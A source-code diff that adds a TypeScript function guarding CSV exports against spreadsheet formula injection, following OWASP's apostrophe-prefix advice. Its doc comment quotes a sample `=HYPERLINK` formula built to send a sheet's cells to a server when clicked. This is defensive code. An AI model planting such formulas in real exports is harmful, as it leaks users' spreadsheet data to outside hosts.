@@ -319,6 +319,24 @@ export function csvField(value: string): string {
   return /[",\r\n]/.test(value) || /^\s|\s$/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
 }
 
+/**
+ * A text cell of a CSV export (a categorical choice, a failure reason, a checkpoint's name) as a
+ * spreadsheet shows it rather than runs it. Text that begins with `=`, `+`, `-`, `@`, a tab or a
+ * carriage return is opened by Excel, LibreOffice and Google Sheets as a formula, quoted or not:
+ * a failure reason `=HYPERLINK("https://…?"&A2, "details")` that a program wrote sent the sheet's
+ * cells to a server when clicked (CSV injection). Such text gets a leading `'`, as OWASP advises,
+ * which spreadsheets take as "text follows". Text that is itself a number ("-1", "+0.5e3") is
+ * left as it is: a spreadsheet reads it as that number, not as a formula. Numbers never come here,
+ * so a negative value stays a number.
+ *
+ * @example
+ * spreadsheetText("=SUM(A1:A9)") // "'=SUM(A1:A9)"
+ * spreadsheetText("-1") // "-1"
+ */
+export function spreadsheetText(text: string): string {
+  return /^[=+\-@\t\r]/.test(text) && !/^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/.test(text) ? `'${text}` : text;
+}
+
 // Storage's messages print commands too (sqlite3 on a WAL file); the CLI's come from here.
 export { shellWord };
 
